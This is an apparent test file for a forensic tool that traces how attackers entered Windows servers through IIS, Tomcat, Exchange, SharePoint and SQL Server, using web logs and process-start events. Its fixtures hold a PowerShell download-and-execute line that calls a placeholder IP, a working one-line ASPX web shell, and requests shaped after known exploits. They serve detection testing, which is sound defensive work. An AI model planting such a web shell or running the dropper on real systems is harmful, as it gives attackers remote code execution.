/** Ways into Windows hosts through web servers and databases: logs of IIS, Tomcat and HTTP.sys, and what services started. */
import { describe, expect, test } from 'bun:test';
import { given } from '../../src/formats/evtx/binxml.fixture.ts';
import type { GivenEvent } from '../../src/formats/evtx/evtx.fixture.ts';
import type { HostSpec } from './windows-host.fixture.ts';
import { at, auditing, look, mined, type Told, usual, ways } from './windows-logs.fixture.ts';

const attacker = '203.0.113.66';
const fields =
  '#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken';
const day = 'inetpub/logs/LogFiles/W3SVC1/u_ex260301.log';

/** `03:10:00 POST /x.aspx - 203.0.113.66 200` of the first of March. */
const iis = (...asked: readonly string[]): string =>
  `${[
    fields,
    ...asked.map((one) => {
      const [time, method, stem, query, client, status] = one.split(' ');
      const date = time?.includes('T') === true ? time.replace('T', ' ') : `2026-03-01 ${time}`;
      return `${date} 10.0.0.7 ${method} ${stem} ${query} 80 - ${client} Mozilla/5.0 - ${status} 0 0 15`;
    }),
  ].join('\n')}\n`;

/** What visitors ask for all day, the day before too. */
const visits: readonly string[] = [
  ...Array.from({ length: 24 }, (_, hour) => {
    const two = String(hour).padStart(2, '0');
    return `2026-02-27T${two}:10:00 GET /default.aspx - 198.51.100.${hour + 1} 200`;
  }),
  ...Array.from({ length: 3 }, (_, hour) => `0${hour}:10:00 POST /login.aspx - 198.51.100.${hour + 1} 200`),
];

interface Started {
  readonly by?: string;
  readonly account?: string;
  readonly program?: string;
  readonly pid?: number;
  readonly parent?: number;
}
const w3wp = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
const dropper = 'powershell -nop -w hidden -c "iex (irm http://192.0.2.7/a.ps1)"';

/** 4688 as Windows writes it since version 10. */
const started = (time: string, command: string, of: Started = {}): GivenEvent => ({
  provider: auditing,
  channel: 'Security',
  computer: 'WEB-07',
  eventId: 4688,
  us: at(time),
  data: {
    SubjectUserName: of.account ?? 'DefaultAppPool',
    NewProcessId: given.hex64(BigInt(of.pid ?? 4_711)),
    NewProcessName: of.program ?? 'C:\\Windows\\System32\\cmd.exe',
    ProcessId: given.hex64(BigInt(of.parent ?? 1_234)),
    CommandLine: command,
    ...(of.by === '' ? {} : { ParentProcessName: of.by ?? w3wp }),
  },
});
const sysmon = (time: string, command: string, parent = w3wp): GivenEvent => ({
  provider: 'Microsoft-Windows-Sysmon',
  channel: 'Microsoft-Windows-Sysmon/Operational',
  computer: 'WEB-07',
  eventId: 1,
  us: at(time),
  data: {
    ProcessId: given.u32(4_711),
    Image: 'C:\\Windows\\System32\\cmd.exe',
    CommandLine: command,
    User: 'IIS APPPOOL\\DefaultAppPool',
    ParentProcessId: given.u32(1_234),
    ParentImage: parent,
  },
});

const base = mined('2026-03-01T03:12:00Z');
const hosted = (files: NonNullable<HostSpec['files']>, spec: HostSpec = base): HostSpec => ({
  ...spec,
  files,
});
const steps = ({ result }: Told): readonly string[] =>
  (result.entry?.[0]?.chain ?? []).map(({ step, time }) => `${time.slice(11, 19)} ${step}`);
const shell =
  '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>';

describe('through IIS', () => {
  test('a shape of SharePoint, a shell under w3wp.exe, and a Run key', async () => {
    const told = await look(
      hosted({
        [day]: iis(
          ...visits,
          `03:09:58 POST /_layouts/15/ToolPane.aspx DisplayMode=Edit&a=/ToolPane.aspx ${attacker} 200`,
        ),
      }),
      { Security: [...usual, started('2026-03-01T03:10:00Z', `cmd /c ${dropper}`)] },
    );
    expect(ways(told)).toEqual([`confirmed web-exploit DefaultAppPool ${attacker}`]);
    expect(told.result.entry?.[0]).toMatchObject({
      service: 'sharepoint',
      firstSuccess: '2026-03-01T03:09:58Z',
    });
    expect(steps(told)).toEqual([
      '03:09:58 success',
      '03:10:00 command',
      '03:12:00 file',
      '03:12:00 persistence',
    ]);
    expect(told.result.infectionWindow).toMatchObject({ from: '2026-03-01T03:09:58Z' });
  });

  test('a web shell that the scan accuses, used by one client, and what it started', async () => {
    const told = await look(
      hosted({
        'inetpub/wwwroot/upload/a.aspx': shell,
        [day]: iis(...visits, `03:10:00 POST /upload/a.aspx - ${attacker} 200`),
      }),
      {
        'Microsoft-Windows-Sysmon%4Operational': [sysmon('2026-03-01T03:10:01Z', 'cmd /c whoami')],
        Security: usual,
      },
    );
    expect(ways(told)).toEqual([`confirmed web-shell DefaultAppPool ${attacker}`]);
    expect(told.result.entry?.[0]?.chain.map(({ step }) => step)).toContain('command');
  });

  test('the same without records of processes is probable', async () => {
    const told = await look(
      hosted({
        'inetpub/wwwroot/upload/a.aspx': shell,
        [day]: iis(...visits, `03:10:00 POST /upload/a.aspx - ${attacker} 200`),
      }),
      { Security: usual },
    );
    expect(told.result.entry?.[0]).toMatchObject({ vector: 'web-shell', grade: 'probable' });
    expect(told.result.entry?.[0]?.missing).toContain('no-inode-times');
  });

  test('a page that is deleted again: asked for by one client, and a shell under w3wp.exe', async () => {
    const told = await look(
      hosted({ [day]: iis(...visits, `03:10:00 POST /images/x.ashx - ${attacker} 200`) }),
      { Security: [...usual, started('2026-03-01T03:10:00Z', 'cmd /c whoami')] },
    );
    expect(ways(told)).toEqual([`probable web-shell DefaultAppPool ${attacker}`]);
  });

  test('a request that broke a program, of no known shape', async () => {
    const told = await look(
      hosted({ [day]: iis(...visits, `03:10:01 POST /login.aspx __VIEWSTATEGENERATOR=1 ${attacker} 500`) }),
      { Security: [...usual, started('2026-03-01T03:10:00Z', `cmd /c ${dropper}`)] },
    );
    expect(ways(told)).toEqual([`confirmed web-exploit DefaultAppPool ${attacker}`]);
    expect(told.result.entry?.[0]).toMatchObject({ service: 'iis' });
  });

  test('without a log of requests nobody is named', async () => {
    const told = await look(base, {
      Security: [...usual, started('2026-03-01T03:10:00Z', `cmd /c ${dropper}`)],
    });
    expect(ways(told)).toEqual(['probable web-exploit DefaultAppPool ']);
    expect(told.result.entry?.[0]?.missing).toEqual(['address-hidden']);
  });

  test('a shell first, and the dropper within it', async () => {
    const told = await look(base, {
      Security: [
        ...usual,
        started('2026-03-01T03:09:00Z', 'cmd', { pid: 500 }),
        started('2026-03-01T03:10:00Z', dropper, {
          by: 'C:\\Windows\\System32\\cmd.exe',
          parent: 500,
          program: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        }),
      ],
    });
    expect(ways(told)).toEqual(['probable web-exploit DefaultAppPool ']);
    expect(told.result.entry?.[0]?.missing).toEqual(['address-hidden']);
    expect(steps(told)).toContain('03:10:00 command');
  });

  test('a number of a process that is another one by now passes nothing on', async () => {
    const told = await look(base, {
      Security: [
        ...usual,
        started('2026-02-27T03:09:00Z', 'cmd', { pid: 500 }),
        started('2026-03-01T03:09:00Z', 'cmd', { by: 'C:\\Windows\\notepad.exe', account: 'ops', pid: 500 }),
        started('2026-03-01T03:10:00Z', dropper, {
          by: 'C:\\Windows\\System32\\cmd.exe',
          account: 'ops',
          parent: 500,
        }),
      ],
    });
    expect(ways(told)).toEqual([]);
  });

  test('before Windows 10 the parent is known by its number', async () => {
    const told = await look(base, {
      Security: [
        ...usual,
        started('2026-03-01T03:00:00Z', '', { by: '', program: w3wp, pid: 1_234, parent: 900 }),
        started('2026-03-01T03:10:00Z', `cmd /c ${dropper}`, { by: '' }),
      ],
    });
    expect(ways(told)).toEqual(['probable web-exploit DefaultAppPool ']);
  });

  test('logs at a place that IIS was told', async () => {
    const told = await look(
      hosted({
        'Windows/System32/inetsrv/config/applicationHost.config':
          '<configuration><system.applicationHost><sites><siteDefaults><logFile logFormat="W3C" directory="%SystemDrive%\\WebLogs" /></siteDefaults></sites></system.applicationHost></configuration>',
        'WebLogs/W3SVC2/u_ex260301.log': iis(...visits, `03:10:00 POST /images/x.ashx - ${attacker} 200`),
      }),
      { Security: [...usual, started('2026-03-01T03:10:00Z', 'cmd /c whoami')] },
    );
    expect(ways(told)).toEqual([`probable web-shell DefaultAppPool ${attacker}`]);
  });

  test('Exchange: ProxyShell', async () => {
    const told = await look(
      hosted({
        [day]: iis(
          ...visits,
          `03:10:00 POST /autodiscover/autodiscover.json @x.example/powershell/?X-Rps-CAT=VgEA ${attacker} 200`,
        ),
      }),
      { Security: [...usual, started('2026-03-01T03:10:20Z', `cmd /c ${dropper}`, { account: 'SYSTEM' })] },
    );
    expect(ways(told)).toEqual([`confirmed web-exploit SYSTEM ${attacker}`]);
    expect(told.result.entry?.[0]).toMatchObject({ service: 'exchange' });
  });
});

describe('through other servers', () => {
  const tomcatLog =
    'Program Files/Apache Software Foundation/Tomcat 9.0/logs/localhost_access_log.2026-03-01.txt';

  test('Confluence on Tomcat, java.exe and what it started', async () => {
    const told = await look(
      hosted({
        [tomcatLog]: `${attacker} - - [01/Mar/2026:11:10:00 +0800] "POST /pages/createpage-entervariables.action?SpaceKey=x HTTP/1.1" 200 1024\n`,
      }),
      {
        Security: [
          ...usual,
          started('2026-03-01T03:10:01Z', `cmd /c ${dropper}`, {
            by: 'C:\\Program Files\\Atlassian\\Confluence\\jre\\bin\\java.exe',
            account: 'confluence1',
          }),
        ],
      },
    );
    expect(ways(told)).toEqual([`confirmed web-exploit confluence1 ${attacker}`]);
  });

  test('beside the program of a service', async () => {
    const told = await look(
      {
        ...base,
        system: {
          'ControlSet001\\Services\\Apache2.4': {
            Type: 16,
            Start: 2,
            ImagePath: '"D:\\Web\\Apache\\bin\\httpd.exe" -k runservice',
            ObjectName: 'LocalSystem',
          },
        },
        drive: 'C',
        files: {
          '../D/Web/Apache/logs/access.log': `${attacker} - - [01/Mar/2026:03:10:00 +0000] "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 200 5\n`,
          '../C/Windows/System32/winevt/Logs/x.txt': 'x',
        },
      },
      {
        Security: [
          ...usual,
          started('2026-03-01T03:10:01Z', `cmd /c ${dropper}`, {
            by: 'D:\\Web\\php\\php-cgi.exe',
            account: 'SYSTEM',
          }),
        ],
      },
    );
    expect(ways(told)).toEqual([`confirmed web-exploit SYSTEM ${attacker}`]);
  });

  test('SQL Server that started a shell, xp_cmdshell being on all along', async () => {
    const told = await look(base, {
      Security: [
        ...usual,
        started('2026-03-01T03:10:00Z', `cmd /c ${dropper}`, {
          by: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe',
          account: 'MSSQLSERVER',
        }),
      ],
    });
    expect(ways(told)).toEqual(['probable database-exec MSSQLSERVER ']);
  });

  test('switched on, and then used, is one way in', async () => {
    const told = await look(base, {
      Application: [
        {
          provider: 'MSSQLSERVER',
          channel: 'Application',
          computer: 'WEB-07',
          eventId: 18454,
          us: at('2026-03-01T03:08:00Z'),
          data: ['sa', ' [CLIENT: 203.0.113.77]'],
        },
        {
          provider: 'MSSQLSERVER',
          channel: 'Application',
          computer: 'WEB-07',
          eventId: 15457,
          us: at('2026-03-01T03:09:00Z'),
          data: ['xp_cmdshell', '0', '1'],
        },
      ],
      Security: [
        ...usual,
        started('2026-03-01T03:10:00Z', `cmd /c ${dropper}`, {
          by: 'C:\\mssql\\Binn\\sqlservr.exe',
          account: 'MSSQLSERVER',
        }),
      ],
    });
    const found = ways(told).filter((way) => way.includes('database-exec'));
    expect(found).toEqual(['confirmed database-exec NT SERVICE\\MSSQLSERVER 203.0.113.77']);
  });
});

describe('no way in', () => {
  const scan404 = Array.from(
    { length: 40 },
    (_, index) =>
      `03:10:${String(index).padStart(2, '0')} GET /shell${index}.aspx cmd=whoami ${attacker} 404`,
  );

  test.each<[string, readonly string[], readonly GivenEvent[]]>([
    [
      'a scan that got 404 minutes before, and a page that converts pictures by a command all the time',
      scan404,
      ['2026-02-25', '2026-02-27', '2026-03-01'].map((date) =>
        started(`${date}T03:10:10Z`, 'cmd /c D:\\tools\\convert.exe 17.png 18.jpg'),
      ),
    ],
    [
      'compilers and workers under w3wp.exe',
      [`03:10:00 POST /upload.aspx - 198.51.100.9 200`],
      [
        started('2026-03-01T03:10:00Z', 'csc.exe /noconfig', {
          program: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
        }),
      ],
    ],
    [
      'a shape of SharePoint that was refused, and an administrator who works',
      [`03:09:58 POST /_layouts/15/ToolPane.aspx DisplayMode=Edit ${attacker} 401`],
      [started('2026-03-01T03:10:00Z', 'cmd /c whoami', { by: 'C:\\Windows\\explorer.exe', account: 'ops' })],
    ],
    [
      'a new command of the site hours before',
      [`2026-02-28T20:10:00 POST /images/x.ashx - ${attacker} 200`],
      [started('2026-02-28T20:10:00Z', 'cmd /c whoami')],
    ],
    [
      'a backup of SQL Server that runs each night',
      [],
      ['2026-02-25', '2026-02-27', '2026-03-01'].map((date) =>
        started(`${date}T03:10:10Z`, `cmd /c copy D:\\backup\\db.bak \\\\nas\\b`, {
          by: 'C:\\mssql\\Binn\\sqlservr.exe',
        }),
      ),
    ],
  ])('%s', async (_, asked, events) => {
    const told = await look(hosted({ [day]: iis(...visits, ...asked) }), {
      Security: [...usual, ...events],
    });
    expect(ways(told)).toEqual([]);
  });

  test('a host that was only asked is clean, and its logs were read', async () => {
    const told = await look(
      {
        files: {
          [day]: iis(...visits, ...scan404, `03:10:00 POST /images/x.ashx - ${attacker} 200`),
          'Windows/System32/LogFiles/HTTPERR/httperr1.log':
            '#Software: Microsoft HTTP API 2.0\n#Fields: date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid sc-status s-siteid s-reason s-queuename\n2026-03-01 03:10:00 203.0.113.9 50000 10.0.0.7 80 - - - - - - Timer_ConnectionIdle -\n2026-03-01 03:10:01 203.0.113.9 50001 10.0.0.7 80 HTTP/1.1 GET /x - 503 1 AppOffline DefaultAppPool\n',
        },
      },
      { Security: [...usual, started('2026-03-01T03:10:00Z', 'cmd /c whoami')] },
    );
    expect(told.result.verdict).toBe('clean');
    expect(told.result.entry ?? []).toEqual([]);
    const requests = told.events.filter(({ what }) => what === 'request');
    expect(requests).toHaveLength(visits.length + scan404.length + 2);
    const logs = told.result.sources.filter(({ artifact }) => artifact.startsWith('windows.log.'));
    expect(logs.map(({ artifact, status }) => `${artifact} ${status}`).toSorted()).toEqual([
      'windows.log.http-error ok',
      'windows.log.iis ok',
    ]);
  });
});

describe('hostile', () => {
  test('floods of processes and requests, names that say anything, settings that lead out', async () => {
    const told = await look(
      hosted({
        'Windows/System32/inetsrv/config/applicationHost.config': `<logFile directory="C:\\..\\..\\..\\..\\tmp" />${'<logFile directory="'.repeat(20_000)}`,
        [day]: iis(
          ...Array.from(
            { length: 3_000 },
            (_, index) => `03:10:00 POST /\x1b[2J${index}.aspx a%00b 203.0.113.${index % 250} 500`,
          ),
        ),
      }),
      {
        Security: [
          ...Array.from({ length: 3_000 }, (_, index) =>
            started(
              '2026-03-01T03:10:00Z',
              `cmd /c \x1b[2J${'a'.repeat(200)}${'bcdfghjk'[index % 8]}${index}`,
            ),
          ),
          started('2026-03-01T03:10:01Z', `cmd /c ${dropper}`),
        ],
      },
    );
    const [way] = told.result.entry ?? [];
    expect(way).toMatchObject({ vector: 'web-exploit', grade: 'probable' });
    expect(way?.chain.length).toBeLessThanOrEqual(40);
    expect(way?.attackers.length).toBeLessThanOrEqual(100);
    expect(JSON.stringify(told.result)).not.toContain('\\u001b');
  });
});
